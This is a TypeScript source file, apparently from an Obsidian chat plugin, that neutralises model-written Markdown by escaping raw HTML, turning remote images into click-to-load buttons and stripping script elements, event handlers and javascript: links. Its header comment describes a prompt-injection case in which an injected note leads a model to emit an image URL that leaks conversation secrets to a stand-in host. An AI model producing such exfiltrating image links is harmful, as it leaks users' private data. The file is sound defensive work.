// Markdown from a model (or a note it quoted) rendered by our own rule, not the renderer's.
//
// A reply can carry instructions injected through a note; `![i](https://host/x.png?d=<secret>)`
// would then leak conversation text the moment the image loads, and raw `<img onerror>`,
// `<script>`, `<iframe>` or `javascript:` links are safe only as far as the renderer happens to be.
// A browser starts loading an image and runs its `onerror` as soon as the element is created, even
// off-screen, so cleaning the DOM after rendering is too late. Hence two passes:
//
// 1. Before rendering (`neutraliseMarkdown`): outside code, every `<` that could open a tag or a
//    comment becomes `&lt;` (raw HTML shows as text), and an image whose address is remote (or
//    unknown: reference style) becomes a plain link, clicked only if the user wants.
// 2. After rendering, before the result is shown (`sanitiseRendered`), as a second line of defence
//    for whatever the renderer made anyway: executable and embedding elements are removed, event
//    handler and style attributes dropped, `javascript:` / `vbscript:` / non-image `data:` links
//    emptied, and a remote image left by any route becomes a "Load image" button.
//
// Code blocks and code spans are left exactly as written (they are shown as text anyway).
import { type App, type Component, MarkdownRenderer } from 'obsidian';

export interface SafeMarkdownOptions {
  /** Show remote images in place (the user's explicit choice). */
  allowRemoteImages?: boolean;
}

/** MarkdownRenderer.render with both passes. The call sites' only change. */
export async function renderSafeMarkdown(app: App, markdown: string, el: HTMLElement, sourcePath: string, component: Component, options: SafeMarkdownOptions = {}): Promise<void> {
  await MarkdownRenderer.render(app, neutraliseMarkdown(markdown, options), el, sourcePath, component);
  sanitiseRendered(el, component, options);
}

// ── pass 1: the Markdown text ───────────────────────────────────────────────────────────────

const FENCE = /^ {0,3}(`{3,}|~{3,})(.*)$/;

export function neutraliseMarkdown(markdown: string, options: SafeMarkdownOptions = {}): string {
  const lines = markdown.split('\n');
  let fence: { char: string; length: number } | null = null;
  for (let i = 0; i < lines.length; i++) {
    const line = lines[i] as string;
    const m = FENCE.exec(line);
    if (fence) {
      if (m && (m[1] as string)[0] === fence.char && (m[1] as string).length >= fence.length && (m[2] as string).trim() === '') fence = null;
      continue;
    }
    // A backtick fence's info string may not hold a backtick (CommonMark): such a line is text.
    if (m && !((m[1] as string)[0] === '`' && (m[2] as string).includes('`'))) {
      fence = { char: (m[1] as string)[0] as string, length: (m[1] as string).length };
      continue;
    }
    lines[i] = neutraliseLine(line, options);
  }
  return lines.join('\n');
}

/** Whether the character at `i` is escaped by an odd number of backslashes before it. */
function escaped(text: string, i: number): boolean {
  let n = 0;
  for (let j = i - 1; j >= 0 && text[j] === '\\'; j--) n++;
  return n % 2 === 1;
}

/** One line outside fenced code: its code spans kept, the rest made inert. */
function neutraliseLine(line: string, options: SafeMarkdownOptions): string {
  let out = '';
  let textStart = 0;
  let i = 0;
  while (i < line.length) {
    if (line[i] !== '`' || escaped(line, i)) {
      i++;
      continue;
    }
    let run = i;
    while (line[run] === '`') run++;
    const ticks = line.slice(i, run);
    // The closing run has exactly as many backticks.
    let close = line.indexOf(ticks, run);
    while (close >= 0 && (line[close + ticks.length] === '`' || line[close - 1] === '`')) close = line.indexOf(ticks, close + 1);
    if (close < 0) {
      i = run;
      continue;
    }
    out += neutraliseText(line.slice(textStart, i), options) + line.slice(i, close + ticks.length);
    i = textStart = close + ticks.length;
  }
  return out + neutraliseText(line.slice(textStart), options);
}

function neutraliseText(text: string, options: SafeMarkdownOptions): string {
  const images = options.allowRemoteImages ? text : unlinkRemoteImages(text);
  // `<` before a letter, `/`, `!` or `?` could open a tag, a comment or a declaration.
  return images.replace(/<(?=[A-Za-z/!?])/g, (lt, offset: number) => (escaped(images, offset) ? lt : '&lt;'));
}

/** `![alt](remote)` and reference-style images (their target is not known here) become links;
 * images of vault paths and `![[embeds]]` stay. */
function unlinkRemoteImages(text: string): string {
  let out = '';
  let from = 0;
  for (let i = text.indexOf('!['); i >= 0; i = text.indexOf('![', i + 1)) {
    if (text[i + 2] === '[' || escaped(text, i)) continue;
    const close = closingBracket(text, i + 1);
    if (close < 0) continue;
    const inline = text[close + 1] === '(';
    if (inline && !isRemote(destination(text, close + 2))) continue;
    const alt = text.slice(i + 2, close);
    out += `${text.slice(from, i)}[${alt.trim() ? alt : 'image'}]`;
    from = close + 1;
  }
  return out + text.slice(from);
}

function closingBracket(text: string, open: number): number {
  let depth = 0;
  for (let i = open; i < text.length; i++) {
    if (escaped(text, i)) continue;
    if (text[i] === '[') depth++;
    else if (text[i] === ']' && --depth === 0) return i;
  }
  return -1;
}

function destination(text: string, start: number): string {
  const rest = text.slice(start).trimStart();
  if (rest.startsWith('<')) return rest.slice(1, Math.max(1, rest.indexOf('>')));
  return /^[^\s)]*/.exec(rest)?.[0] ?? '';
}

/** An address that would be fetched from the network (any scheme but the app's own, or `//host`).
 * `data:` images carry their bytes inline and load nothing. */
function isRemote(url: string): boolean {
  const u = url.trim();
  if (u.startsWith('//')) return true;
  const scheme = /^([a-z][a-z0-9+.-]*):/i.exec(u)?.[1]?.toLowerCase();
  return scheme !== undefined && scheme !== 'app' && scheme !== 'data';
}

// ── pass 2: the rendered DOM ────────────────────────────────────────────────────────────────

const REMOVED = new Set(['script', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'link', 'meta', 'base', 'style', 'form', 'noscript', 'template']);
const DROPPED_ATTRIBUTES = new Set(['style', 'srcdoc', 'formaction', 'action', 'ping', 'background', 'srcset']);
const URL_ATTRIBUTES = ['href', 'src', 'xlink:href', 'poster', 'data'];
const BAD_URL = /^\s*(javascript|vbscript|data(?!:image\/(png|gif|jpe?g|webp|avif);))\s*:/i;
const MEDIA = new Set(['img', 'image', 'video', 'audio', 'source', 'track', 'input']);

export function sanitiseRendered(root: HTMLElement, component: Component, options: SafeMarkdownOptions = {}): void {
  for (const el of Array.from(root.querySelectorAll('*'))) {
    const tag = el.tagName.toLowerCase();
    if (REMOVED.has(tag)) {
      el.remove();
      continue;
    }
    for (const attr of Array.from(el.attributes)) {
      const name = attr.name.toLowerCase();
      if (name.startsWith('on') || DROPPED_ATTRIBUTES.has(name)) el.removeAttribute(attr.name);
      else if (URL_ATTRIBUTES.includes(name) && (BAD_URL.test(attr.value) || attr.value.trim().toLowerCase().startsWith('javascript'))) el.removeAttribute(attr.name);
    }
    if (!options.allowRemoteImages && MEDIA.has(tag)) {
      const src = el.getAttribute('src') ?? el.getAttribute('href') ?? el.getAttribute('xlink:href') ?? '';
      if (isRemote(src)) replaceWithLoader(el, src, component);
    }
  }
}

/** A remote image as a button naming its host; the image loads only when the user asks. */
function replaceWithLoader(el: Element, src: string, component: Component): void {
  let host = src;
  try {
    host = new URL(src, 'https://invalid.invalid').host;
  } catch {
    // Shown as written.
  }
  const alt = el.getAttribute('alt') ?? '';
  const button = createEl('button', { cls: 'compact-chat-remote-image', text: `Load image from ${host}`, attr: { 'aria-label': `Load image${alt ? ` "${alt}"` : ''} from ${src}`, title: src } });
  component.registerDomEvent(button, 'click', () => {
    const img = createEl('img', { attr: { src, alt } });
    button.replaceWith(img);
  });
  el.replaceWith(button);
}
